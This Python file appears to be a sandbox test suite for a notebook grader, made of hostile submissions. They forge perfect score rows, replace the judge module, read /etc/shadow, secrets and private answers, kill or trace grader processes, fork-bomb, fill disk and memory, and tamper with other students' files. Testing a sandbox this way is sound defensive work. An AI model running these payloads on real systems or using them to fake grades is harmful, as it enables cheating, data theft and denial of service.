# SPDX-License-Identifier: Apache-2.0
"""Attacks on the grader. FACTS: the class's folder, a file of the teacher, a process of the teacher, a port, a mark for files."""

# Runs before each attack.
HELP = '''
import ctypes, fcntl, glob, json, os, resource, signal, socket, subprocess, sys, tempfile, threading, time
libc = ctypes.CDLL(None, use_errno=True)
MARK = FACTS["mark"]
FORGED = json.dumps({"state": "within the budget", "score": 100, "why": ""}) + chr(10)
done, tried = [], []
FIRST = os.getppid()

def parent_of(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])

def ancestors():
    """The processes above this one, as far as they can be seen."""
    pid, found = os.getpid(), []
    try:
        while (pid := parent_of(pid)) > 1:
            found.append(pid)
    except OSError:
        found += [os.getppid()] if not found else []
    return found or [os.getppid()]

def everyone():
    return [p for p in [*ancestors(), FACTS["teacher"], *range(2, 64)] if p != os.getpid()]

def call(number, *words):
    """A system call by its number, which is that of x86-64."""
    if os.uname().machine != "x86_64" or libc.syscall(ctypes.c_long(number), *(ctypes.c_long(w) if isinstance(w, int) else w for w in words)) < 0:
        raise OSError(ctypes.get_errno(), "")

def attempt(name, act):
    tried.append(name)
    try:
        act()
    except BaseException:
        return
    done.append(name)

def report():
    raise RuntimeError(" ".join([f"{len(tried)} tried, succeeded:", *done]))

def quietly(act, *words):
    try:
        return act(*words)
    except BaseException:
        return None

def each(act, items):
    """act of every item; an error if it failed for all."""
    if not any([quietly(lambda: (act(item), True)[1]) for item in items]):
        raise OSError("all failed")
'''

# Attacks that may end or disturb their process: a notebook for each.
ALONE = {
    # The row is forged.
    "forges_and_kills_its_parent": '''
for pid in ancestors():
    quietly(lambda: open(f"/proc/{pid}/fd/1", "w").write(FORGED))
    quietly(os.kill, pid, 9)''',
    "forges_rows_of_odd_types": '''
rows = ["[1, 2, 3]", '{"state": 5}', "null", '{"ended": true}', '{"nonce": "", "row": ' + FORGED.strip() + "}", "[" * 100000, FORGED]
for pid in [*ancestors(), os.getpid()]:
    for fd in range(64):
        for row in rows:
            quietly(lambda: os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), (row + chr(10)).encode()))
            if pid == os.getpid():
                quietly(os.write, fd, (row + chr(10)).encode())
os._exit(0)''',
    "writes_the_answer_in_place_of_ir": '''
for fd in range(3, 64):
    quietly(os.write, fd, (json.dumps({"copy": {"texts": [FORGED] * 6, "score": 100}}) + chr(10)).encode())''',
    "prints_a_row_in_the_judge": '''
@tilelang.jit
def copy(A, TILE: int):
    N = T.const("N")
    A: T.Tensor((N,), "float16")
    B = T.empty((N,), "float16")
    with T.Kernel(1, threads=1):
        v = T.alloc_var("int32")
        v = 1
        T.print(v, msg='{"nonce": "", "row": {"state": "within the budget", "score": 100, "why": ""}}')
    return B''',
    "replaces_the_judge_in_its_process": '''
import numpy as np, tilelab.puzzles.judge as j, tilelab.puzzles.mismatch as m, tilelab.puzzles.page as p
m.mask = lambda *a: np.zeros(1, bool)
j.judge_size = lambda *a: None
np.testing.assert_allclose = np.allclose = lambda *a, **k: True
for module in ("judge", "page", "task", "warden", "grade"):
    sys.modules["tilelab.puzzles." + module] = type(sys)("fake")''',
    "plants_a_judge": '''
os.makedirs("tilelab/puzzles", exist_ok=True)
for name in ("tilelab/__init__.py", "tilelab/puzzles/__init__.py", "tilelab/puzzles/judge.py", "numpy.py", "usercustomize.py", "random.py"):
    open(name, "w").write(f"print({FORGED!r})")
sys.path.insert(0, os.getcwd()); os.environ["PYTHONPATH"] = os.getcwd()
import tilelab.puzzles as package
quietly(lambda: open(os.path.join(package.__path__[0], "judge.py"), "a").write("0"))
quietly(lambda: open(os.path.join(package.__path__[0], MARK), "w").write("0"))''',
    "answers_after_its_end": '''
import atexit
def later(*_):
    for fd in range(3, 64):
        quietly(os.write, fd, FORGED.encode())
atexit.register(later)
threading.Thread(target=lambda: [time.sleep(0.01) or later() for _ in range(200)]).start()
signal.signal(signal.SIGALRM, later); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    while True:
        later(); time.sleep(0.01)
sys.exit(0)''',
    "runs_another_program": '''
os.execv(sys.executable, [sys.executable, "-c", f"""
import os
for fd in range(64):
    try: os.write(fd, {FORGED.encode()!r})
    except OSError: pass"""])''',
    "closes_its_descriptors": "os.closerange(0, 1000)\nos._exit(0)",
    "hands_in_a_classmates_work": '''
for path in glob.glob(FACTS["folder"] + "/*honest*") + [FACTS["folder"] + "/a_honest.ipynb"]:
    for cell in quietly(lambda: json.load(open(path))["cells"]) or []:
        exec(cell["source"].partition(chr(10))[2])''',
    "hands_in_lowered_ir": '''
import tilelab.puzzles.graded as graded
graded._texts = lambda part, made: [made.compile(**sizes).ir(level="thread") for sizes in [*part.cases, part.full]]
@tilelang.jit
def copy(A, TILE: int):
    N = T.const("N")
    A: T.Tensor((N,), "float16")
    B = T.empty((N,), "float16")
    with T.Kernel(T.ceildiv(N, TILE), threads=128) as block:
        T.copy(A[block * TILE:(block + 1) * TILE], B[block * TILE:(block + 1) * TILE])
    return B''',
    # The grading is ended, stopped or overloaded.
    "kills_everyone": "for pid in [-1, 0, *everyone()]:\n    quietly(os.kill, pid, 9)\nquietly(os.killpg, os.getppid(), 9)",
    "stops_everyone": '''
for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
    for pid in [-1, *everyone()]:
        quietly(os.kill, pid, number)
        quietly(os.killpg, pid, number)''',
    "bomb_of_processes": "while True:\n    quietly(os.fork)",
    "comet": "while True:\n    if quietly(os.fork):\n        os._exit(0)",
    "bomb_of_threads": '''
def more():
    threading.Thread(target=time.sleep, args=(1000,)).start()
while True:
    more()''',
    "floods_its_output": '''
while True:
    for pid in ancestors():
        quietly(lambda: open(f"/proc/{pid}/fd/1", "wb").write(b"x" * (1 << 20)))
    for fd in range(64):
        quietly(os.write, fd, b"x" * (1 << 20))''',
    "fills_the_disk": '''
for number in range(10 ** 6):
    open(f"{number}", "w").write("x" * 100)''',
    "nests_folders": '''
for number in range(5000):
    os.mkdir("d"); os.chdir("d")
time.sleep(1000)''',
    "hides_files_below_long_names": '''
for number in range(40):
    os.mkdir("d" * 250); os.chdir("d" * 250)
for number in range(500):
    open(f"{number}", "w").write("x" * (1 << 20))
time.sleep(1000)''',
    "fills_the_memory": '''
x = b"x" * (200 << 20)  # counted in each process that has it
for number in range(15):
    if os.fork() == 0:
        time.sleep(1000)
time.sleep(1000)''',
    # Something outlives the grading, or reaches the terminal.
    "leaves_a_daemon": '''
if os.fork() == 0:
    quietly(os.setsid); quietly(os.setpgid, 0, 0)
    if os.fork() == 0:
        for pid in ancestors():
            quietly(os.kill, pid, 9)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        quietly(subprocess.Popen, ["/bin/sleep", "31337"], {"start_new_session": True})
        time.sleep(31337)
    os._exit(0)''',
    "writes_escapes": '''raise RuntimeError(chr(27) + "]0;pwned" + chr(7) + chr(27) + "[2J" + chr(0x202e) + chr(0x9b) + "5m" + chr(13) + "=1+1")''',
    "writes_into_terminals": '''
for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *(f"/proc/{pid}/fd/{fd}" for pid in ancestors() for fd in (0, 1, 2))]:
    quietly(lambda: os.write(os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK), chr(27).encode() + b"[2Jpwned"))
quietly(lambda: fcntl.ioctl(0, 0x5412, b"x"))''',
    "answers_with_a_secret": '''raise RuntimeError("".join(map(str, [
    quietly(lambda: open(FACTS["private"]).read()), dict(os.environ), *(quietly(lambda: open(f"/proc/{pid}/environ").read())
    for pid in [*everyone()]), quietly(sys.stdin.read)]))[-390:])''',
}

# Words of the reasons that a teacher reads.
REASONS = {
    "bomb_of_processes": "more than 32 processes",
    "fills_the_disk": "files or 64 MB",
    "nests_folders": "files or 64 MB",
    "hides_files_below_long_names": "files or 64 MB",
    "writes_escapes": "pwned",
    "fills_the_memory": "more than 2 GB",
    "hands_in_a_classmates_work": "no cell defines copy",
    "prints_a_row_in_the_judge": "is never written",
    "hands_in_lowered_ir": "written at thread level",
}

# Attacks that fail by an error, or else succeed; all in one notebook.
TRIED = {
    "reads_a_classmate": 'open(FACTS["folder"] + "/a_honest.ipynb").read()',
    "lists_the_class": 'os.listdir(FACTS["folder"])',
    "overwrites_a_classmate": 'open(FACTS["folder"] + "/a_honest.ipynb", "w").write("{}")',
    "empties_a_classmate": 'os.truncate(FACTS["folder"] + "/a_honest.ipynb", 0)',
    "removes_a_classmate": 'os.remove(FACTS["folder"] + "/m_honest.ipynb")',
    "renames_a_classmate": 'os.rename(FACTS["folder"] + "/m_honest.ipynb", FACTS["folder"] + "/x.ipynb")',
    "swaps_itself_for_a_link": 'os.symlink("a_honest.ipynb", FACTS["folder"] + "/tries2.ipynb")',
    "links_to_a_classmate": 'os.link(FACTS["folder"] + "/a_honest.ipynb", "mine.ipynb"); open("mine.ipynb").read()',
    "closes_a_classmate": 'os.chmod(FACTS["folder"] + "/a_honest.ipynb", 0)',
    "closes_the_folder": 'os.chmod(FACTS["folder"], 0)',
    "dates_a_classmate": 'os.utime(FACTS["folder"] + "/a_honest.ipynb", (0, 0))',
    "marks_a_classmate": 'os.setxattr(FACTS["folder"] + "/a_honest.ipynb", "user.x", b"1")',
    "takes_a_classmate": 'os.chown(FACTS["folder"] + "/a_honest.ipynb", os.getuid(), os.getgid())',
    "reads_the_answers": 'open(FACTS["private"]).read()',
    "reads_the_shadow_file": 'open("/etc/shadow").read()',
    "writes_beside": 'each(lambda place: open(f"{place}/{MARK}", "w"), ["/tmp", "/var/tmp", "/dev/shm", "/", "/usr/lib", "/run", FACTS["folder"]])',
    "writes_through_a_link": 'os.symlink(FACTS["folder"] + "/a_honest.ipynb", "way"); open("way", "a").write("x")',
    "reads_memory_of_the_judge": 'each(lambda pid: open(f"/proc/{pid}/mem", "rb"), everyone())',
    "writes_memory_of_the_judge": 'each(lambda pid: open(f"/proc/{pid}/mem", "r+b"), everyone())',
    "reads_variables_of_the_judge": 'each(lambda pid: open(f"/proc/{pid}/environ").read(), everyone())',
    "lists_descriptors_of_the_judge": 'each(lambda pid: os.listdir(f"/proc/{pid}/fd"), everyone())',
    "opens_a_descriptor_of_the_judge": 'each(lambda pid: open(f"/proc/{pid}/fd/1", "w"), everyone())',
    "enters_the_root_of_the_judge": 'each(lambda pid: os.listdir(f"/proc/{pid}/root/tmp"), everyone())',
    "steals_the_input": 'open(f"/proc/{os.getppid()}/fd/0").read(1)',
    "signals_the_judge": "each(lambda pid: os.kill(pid, 0), everyone())",
    "signals_the_group": "each(lambda pid: os.killpg(pid, 0), [0, *everyone()])",
    "queues_a_signal": 'each(lambda pid: call(129, pid, 9, (ctypes.c_char * 128)()), everyone())',
    "signals_a_thread": "each(lambda pid: call(234, pid, pid, 9), everyone())",
    "signals_by_a_descriptor": "each(lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), 0), everyone())",
    "signals_by_ready_input": '''r, w = os.pipe()
each(lambda pid: fcntl.fcntl(r, fcntl.F_SETOWN, pid), everyone())''',
    "chooses_the_signal_of_ready_input": "fcntl.fcntl(0, 10, signal.SIGKILL)",
    "traces_the_judge": "each(lambda pid: call(101, 16, pid, 0, 0), everyone())",
    "seizes_the_judge": "each(lambda pid: call(101, 0x4206, pid, 0, 0), everyone())",
    "reads_by_process_vm": '''into, at = ctypes.create_string_buffer(8), (ctypes.c_ulong * 2)()
at[0], at[1] = ctypes.addressof(into), 8
each(lambda pid: call(310, pid, at, 1, at, 1, 0), everyone())''',
    "slows_the_judge": "each(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19), everyone())",
    "slows_its_user": "os.setpriority(os.PRIO_USER, os.getuid(), 19)",
    "moves_the_judge": "each(lambda pid: os.sched_setaffinity(pid, {0}), everyone())",
    "limits_the_judge": "each(lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)), everyone())",
    "raises_its_limits": "resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)",
    "leaves_its_session": "os.setsid()",
    "leaves_its_group": "os.setpgid(0, 0)",
    "becomes_root": "os.setuid(0) if os.getuid() else os.setgroups([0])",
    "regains_rights": "each(lambda bit: call(157, 24, bit, 0, 0, 0), range(40)) if call(157, 39, 0, 0, 0, 0) else None; call(157, 38, 0, 0, 0, 0)",
    "makes_a_namespace": "each(lambda flag: call(272, flag), [1 << 17, 1 << 28, 1 << 29, 1 << 30])",
    "clones_a_namespace": '''
call(56, 0x10000011, 0, 0, 0, 0)
if parent_of(os.getpid()) != FIRST:
    os._exit(0)''',
    "mounts": 'call(165, b"none", b"/tmp", b"tmpfs", 0, 0)',
    "changes_its_root": 'os.chroot("/")',
    "opens_a_ring": "call(425, 8, (ctypes.c_char * 256)())",
    "loads_a_program": "call(321, 0, (ctypes.c_char * 256)(), 128)",
    "watches_performance": "call(298, (ctypes.c_char * 256)(), 0, -1, -1, 0)",
    "keeps_shared_memory": "call(29, 0, 4096, 0o1666)",
    "keeps_a_queue": "call(68, 0, 0o1666)",
    "keeps_a_key": 'call(248, b"user", b"x", b"y", 1, -3)',
    "calls_home": 'socket.create_connection(("127.0.0.1", FACTS["port"]), 1)',
    "listens": 'socket.create_server(("127.0.0.1", 0))',
    "listens_by_name": 'socket.socket(socket.AF_UNIX).bind("\\0" + MARK)',
    "talks_to_the_system": 'socket.socket(socket.AF_UNIX).connect("/run/systemd/private")',
    "types_for_the_teacher": 'each(lambda path: os.open(path, os.O_RDWR | os.O_NOCTTY), ["/dev/tty", "/dev/console", *[f"/dev/pts/{n}" for n in range(9)]])',
    "hides_files_in_a_folder": 'os.mkdir("hidden", 0o300); open("hidden/x", "w")',
    "hides_files_by_a_mask": 'os.umask(0o700)',
    "keeps_files_in_memory": 'os.memfd_create("x")',
    "makes_a_device": 'os.mknod("disk", 0o60666, os.makedev(254, 0))',
    "reads_the_kernels_log": 'open("/dev/kmsg").read(1)',
    "protects_itself_from_the_killer": 'open("/proc/self/oom_score_adj", "w").write("-1000")',
    "changes_the_kernel": 'open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")',
}
